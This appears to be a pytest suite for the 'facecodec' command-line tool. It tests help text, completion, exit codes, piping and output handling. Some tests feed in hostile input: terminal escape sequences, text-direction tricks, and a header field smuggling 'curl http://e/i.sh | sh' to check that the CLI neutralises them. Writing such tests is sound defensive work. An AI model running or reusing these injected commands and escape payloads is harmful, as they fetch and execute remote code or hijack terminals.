"""The command line's manners: where things are printed, help, completion, exit codes, names."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from facecodec.bitstream import IdentityFile, load_identity_file, open_stream, pack_identity
from facecodec.cli import console
from facecodec.cli.main import COMMANDS, main, run
from facecodec.weights.catalogue import CATALOGUE
from tests.helpers import toy_streams as streams


@pytest.fixture
def talk(tmp_path: Path) -> Path:
    path = tmp_path / "talk.fcv"
    path.write_bytes(streams.write(55, audio=streams.packets(110)))
    return path


def invoke(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def ends(capsys: pytest.CaptureFixture[str], *arguments: object) -> tuple[int, str, str]:
    """Run as the shell would; return the exit code and what both outputs got."""
    with pytest.raises(SystemExit) as stop:
        run([str(argument) for argument in arguments])
    captured = capsys.readouterr()
    return int(stop.value.code or 0), captured.out, captured.err


@pytest.mark.parametrize("command", ["info", "verify"])
def test_a_stream_comes_through_a_pipe(talk, command):
    """Not seekable, as standard input is behind a `|`."""
    words = [sys.executable, "-m", "facecodec", command]
    said = [
        subprocess.run(
            [*words, name], input=given, capture_output=True, check=True, cwd=talk.parent
        ).stdout
        for name, given in ((talk.name, b""), ("-", talk.read_bytes()))
    ]
    assert said[0].replace(b"talk.fcv", b"-").split() == said[1].split()


def leaves() -> list[tuple[str, ...]]:
    names: list[tuple[str, ...]] = []
    context = click.Context(main)
    for name in COMMANDS:
        command = main.get_command(context, name)
        if isinstance(command, click.Group):
            names += [(name, sub) for sub in command.commands]
        else:
            names.append((name,))
    return names


LEAVES = leaves()


@pytest.mark.parametrize("path", LEAVES, ids=" ".join)
def test_every_help_has_an_example_and_is_whole(path):
    text = invoke(*path, "--help").output
    command = f"facecodec {' '.join(path)}"
    assert [line for line in text.splitlines() if command in line and "Usage:" not in line]
    cut = [line for line in text.splitlines() if line.rstrip().endswith("...")]
    assert [line for line in cut if "Usage:" not in line] == []
    assert all(len(line) <= 80 for line in text.splitlines())


@pytest.mark.parametrize("path", LEAVES, ids=" ".join)
def test_every_option_is_explained(path):
    command: click.Command = main
    for name in path:
        assert isinstance(command, click.Group)
        subcommand = command.get_command(click.Context(command), name)
        assert subcommand is not None
        command = subcommand
    for parameter in command.params:
        if isinstance(parameter, click.Option):
            assert parameter.help, f"{path}: {parameter.name}"


def test_help_is_instant():
    """What takes seconds to import is imported by the work, not by the help."""
    script = (
        "import sys\n"
        "from facecodec.cli.main import COMMANDS, main\n"
        "for name in COMMANDS:\n"
        "    main.get_command(None, name)\n"
        "print([name for name in ('torch', 'av', 'cuda_ops', 'dlib') if name in sys.modules])\n"
    )
    run_ = subprocess.run([sys.executable, "-c", script], capture_output=True, check=True)
    assert run_.stdout.strip() == b"[]"


STREAM_READERS = ["decode", "puppet", "eval", "report", "view"]


@pytest.mark.parametrize("name", STREAM_READERS)
def test_identity_is_an_option_wherever_a_stream_is_rendered(name):
    assert "--identity" in invoke(name, "--help").output


@pytest.mark.parametrize("group", [(), ("identity",), ("model",), ("rig",)], ids=str)
def test_short_helps_are_not_cut(group):
    text = invoke(*group, "--help").output
    commands = text[text.index("Commands:") :]
    assert "..." not in commands


def test_results_on_standard_output_and_remarks_on_standard_error(talk, tmp_path, capsys):
    assert "55 at 25 a second" in ends(capsys, "info", talk)[1]
    code, out, err = ends(capsys, "cut", talk, tmp_path / "part.fcv", "--end", "1")
    assert (code, out) == (0, "") and "25 frames" in err
    code, out, err = ends(capsys, "cut", talk, tmp_path / "p2.fcv", "--json", "-q")
    assert json.loads(out)["frames"] == 55 and err == ""
    code, out, err = ends(capsys, "verify", talk)
    assert "whole, 55 frames" in out and err == ""
    for quiet in ("-q", "--quiet"):
        assert ends(capsys, "verify", talk, quiet) == (0, "", "")
    code, out, err = ends(capsys, "model", "list")
    assert "dlib-landmarks" in out and err == ""


def test_quiet_leaves_errors_and_codes(tmp_path, capsys):
    code, out, err = ends(capsys, "verify", "-q", tmp_path / "none.fcv")
    assert code == 2 and out == "" and "none.fcv" in err
    broken = tmp_path / "broken.fcv"
    broken.write_bytes(streams.write(55)[:-20])
    assert ends(capsys, "verify", "-q", broken) == (1, "", "")


def piped(*arguments: object, data: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "facecodec", *map(str, arguments)]
    return subprocess.run(command, input=data, capture_output=True, check=False)


def test_pipes_in_and_out(talk):
    made = piped("cut", talk, "-", "--end", "1", "--json")
    assert made.returncode == 0 and json.loads(made.stderr[: made.stderr.rindex(b"}") + 1])
    assert len(list(open_stream_of(made.stdout))) == 25
    seen = piped("verify", "-", data=made.stdout)
    assert seen.returncode == 0 and b"whole, 25 frames" in seen.stdout
    person = piped("identity", "extract", talk, "-", "--json")
    assert person.returncode == 0 and person.stdout
    assert b'"sha256"' in person.stderr


def open_stream_of(data: bytes):
    path = Path(os.environ.get("TMPDIR", "/tmp")) / f"facecodec-test-{os.getpid()}.fcv"
    path.write_bytes(data)
    try:
        return list(open_stream(path))
    finally:
        path.unlink()


HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J\r\ngrey.fcv: whole\u202egnp\x9b31m\u2028\x00[link=http://e]x[/foo]"
)


@pytest.mark.parametrize("arguments", [("info",), ("info", "--chunks"), ("info", "--rates")])
def test_text_of_a_stream_is_harmless(arguments, tmp_path):
    path = tmp_path / "evil.fcv"
    head = streams.header(
        metadata={HOSTILE: HOSTILE, "[/foo]": "x"},
        creator=HOSTILE[:40],
        generator_name=HOSTILE[:40],
    )
    path.write_bytes(streams.write(5, head=head))
    text = invoke(*arguments, path)
    assert text.exit_code == 0, text
    plain(text.stdout, text.stderr)
    assert "[link=http://e]x[/foo]" in "".join(text.stdout.split("\n"))
    assert "\\x1b" in text.stdout and "\\u202e" in text.stdout
    assert "\ngrey.fcv" not in text.stdout


def plain(*texts: str) -> None:
    for text in texts:
        bad = [c for c in text if console.printable(c) != c and c != "\n"]
        assert bad == []


def test_text_of_an_identity_file_is_harmless(tmp_path):
    head = streams.header()
    payload = pack_identity(streams.latent(), streams.W_MEAN)
    file = IdentityFile(HOSTILE[:40], head.generator_sha256, 4, 8, HOSTILE, payload)
    path = tmp_path / "evil.fci"
    path.write_bytes(file.pack())
    assert load_identity_file(path).creator == HOSTILE
    for arguments in (("info", path), ("identity", "info", path), ("verify", path)):
        made = invoke(*arguments)
        assert made.exit_code == 0
        plain(made.stdout, made.stderr)


def test_errors_are_harmless_and_one_line(tmp_path, capsys):
    head = streams.header(generator_name="x && curl http://e/i.sh | sh #\x1b[2J")
    path = tmp_path / "evil.fcv"
    path.write_bytes(streams.write(5, head=head))
    code, _, err = ends(capsys, "decode", path, tmp_path / "x.mp4")
    assert code == 1 and err.count("\n") == 1
    plain(err)
    assert "model install x" not in err
    name = tmp_path / "no\x1b[2J\nsuch.fcv"
    code, _, err = ends(capsys, "info", name)
    assert code == 2 and err.count("\n") == 1
    plain(err)


def test_file_names_are_harmless(talk, tmp_path):
    odd = tmp_path / "[bold]odd\x1b[2J[bold].fcv"
    odd.write_bytes(talk.read_bytes())
    for name in ("info", "verify"):
        made = invoke(name, odd)
        plain(made.stdout)
        assert "[bold]odd\\x1b[2J[bold].fcv" in made.stdout.replace("\n", "")


@pytest.mark.parametrize("width", [40, 60, 80])
@pytest.mark.parametrize("command", ["info", "chunks", "model list"])
def test_tables_fold_and_are_never_cut(width, command, talk, monkeypatch):
    monkeypatch.setenv("COLUMNS", str(width))
    arguments = {"info": ("info", talk, "--rates"), "chunks": ("info", talk, "--chunks"),
                 "model list": ("model", "list")}[command]  # fmt: skip
    narrow = invoke(*arguments).stdout
    monkeypatch.delenv("COLUMNS")
    wide = invoke(*arguments).stdout
    assert "…" not in narrow
    assert all(len(line.rstrip()) <= width for line in narrow.splitlines())
    letters = [sorted("".join(text.split()).replace("─", "")) for text in (narrow, wide)]
    assert letters[0] == letters[1]


def test_names_of_models_are_not_broken_at_80_columns(monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    for name in CATALOGUE:
        assert f" {name} " in invoke("model", "list").stdout


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion(shell, tmp_path):
    script = invoke("completion", shell).output
    assert "_FACECODEC_COMPLETE" in script and "facecodec" in script


@pytest.mark.parametrize(
    ("words", "wanted"),
    [
        ("facecodec enc", "encode"),
        ("facecodec model install dlib-e", "dlib-embedding"),
        ("facecodec encode --pre", "--preset"),
        ("facecodec encode --preset sl", "slow"),
        ("facecodec encode --model mi", "mine"),
        ("facecodec decode ta", "file"),
        ("facecodec view ", "file"),
    ],
)
def test_what_is_completed(words, wanted, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("FACECODEC_HOME", str(tmp_path))
    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "mine.json").write_text("{}")
    monkeypatch.setenv("_FACECODEC_COMPLETE", "bash_complete")
    monkeypatch.setenv("COMP_WORDS", words)
    monkeypatch.setenv("COMP_CWORD", str(len(words.split(" ")) - 1))
    _, out, _ = ends(capsys)
    assert wanted in out.replace(",", "\n").splitlines()


MISUSE = {
    "no such command": ("nonsense",),
    "no such option": ("info", "--nonsense"),
    "no argument": ("info",),
    "too many arguments": ("info", "a", "b"),
    "no such choice": ("encode", "a", "b", "--preset", "quick"),
    "no number": ("encode", "a", "b", "--quality", "high"),
    "number out of range": ("encode", "a", "b", "--quality", "101"),
    "no time": ("cut", "a", "b", "--start", "soon"),
    "no such file, info": ("info", "none.fcv"),
    "no such file, verify": ("verify", "none.fcv"),
    "no such file, cut": ("cut", "none.fcv", "out.fcv"),
    "no such file, decode": ("decode", "none.fcv", "out.mp4"),
    "no such file, encode": ("encode", "none.mp4", "out.fcv"),
    "no such file, identity": ("identity", "info", "none.fci"),
    "no such file, eval": ("eval", "none.mp4", "none.fcv"),
    "no such file, report": ("report", "none.fcv", "-o", "x.html"),
    "no such file, compare": ("compare", "none.mp4"),
    "no such file, view": ("view", "none.fcv", "--no-browser"),
    "no such file, import": ("model", "import", "none.pkl"),
    "no such file, install": ("model", "install", "--from", "none.whl"),
    "a folder, info": ("info", "."),
    "a folder, decode": ("decode", ".", "out.mp4"),
    "a folder, encode": ("encode", ".", "out.fcv"),
    "output exists": ("cut", "talk.fcv", "there.fcv"),
    "output is a folder": ("cut", "talk.fcv", "folder", "-f"),
    "output is nowhere": ("cut", "talk.fcv", "no/such/folder.fcv"),
    "output of no kind": ("decode", "talk.fcv", "out.doc"),
    "past the end": ("cut", "talk.fcv", "out.fcv", "--start", "99"),
    "no model of that name": ("model", "install", "nonsense"),
    "no name at all": ("model", "install"),
    "a name that is none": ("model", "info", "../x"),
}


@pytest.mark.parametrize("mistake", MISUSE)
def test_a_mistake_of_the_user_ends_with_2_in_one_line(mistake, talk, monkeypatch, capsys):
    monkeypatch.chdir(talk.parent)
    (talk.parent / "there.fcv").touch()
    (talk.parent / "folder").mkdir()
    before = sorted(talk.parent.iterdir())
    code, out, err = ends(capsys, *MISUSE[mistake])
    assert (code, out) == (2, ""), err
    assert err.count("\n") == 1 and err.startswith("facecodec: "), err
    assert "Error" not in err and "Errno" not in err
    assert sorted(talk.parent.iterdir()) == before


def test_a_file_that_is_none_ends_with_1(tmp_path, capsys):
    junk = tmp_path / "junk"
    junk.write_bytes(b"neither a stream nor a video" * 100)
    for arguments in (
        ("info", junk), ("cut", junk, tmp_path / "o.fcv"), ("decode", junk, tmp_path / "o.mp4"),
        ("encode", junk, tmp_path / "o.fcv"), ("identity", "info", junk),
        ("report", junk, "-o", tmp_path / "o.html"), ("eval", junk, junk),
    ):  # fmt: skip
        code, out, err = ends(capsys, *arguments)
        assert (code, out, err.count("\n")) == (1, "", 1), (arguments, err)
        assert "Errno" not in err


def test_an_existing_output_names_the_option(talk, tmp_path, capsys):
    (tmp_path / "there.fcv").touch()
    err = ends(capsys, "cut", talk, tmp_path / "there.fcv")[2]
    assert err.endswith("exists already; -f overwrites it\n")
    (tmp_path / "p5.png").touch()
    err = ends(capsys, "decode", talk, tmp_path / "p%d.png")[2]
    assert err.endswith("p5.png exists already; -f overwrites it\n")


def test_names_that_begin_with_a_dash(talk, monkeypatch, capsys):
    monkeypatch.chdir(talk.parent)
    for name in ("-x.fcv", "-final.fcv", "--a.fcv", "-f.fcv"):
        code, _, err = ends(capsys, "cut", "talk.fcv", name)
        assert code == 2 and f"written ./{name}" in err
    for option in ("-rf", "--nonsense", "--for"):
        code, _, err = ends(capsys, "cut", "talk.fcv", option)
        assert code == 2 and "./" not in err
    assert ends(capsys, "cut", "--", "talk.fcv", "-x.fcv")[0] == 0
    assert ends(capsys, "verify", "./-x.fcv")[0] == 0
    assert ends(capsys, "cut", "--", "talk.fcv", "--debug")[0] == 0
    assert Path("--debug").exists()


def test_debug_shows_where_an_error_came_from(tmp_path):
    for arguments in (("--debug", "info", "none.fcv"), ("info", "none.fcv", "--debug")):
        with pytest.raises(Exception, match="no such file"):
            run([str(argument) for argument in arguments])


def test_encode_of_a_stream_says_that_it_is_one(talk, tmp_path, capsys):
    code, _, err = ends(capsys, "encode", talk, tmp_path / "out.fcv")
    assert code in (1, 2) and "stream" in err and ".fcv" in err
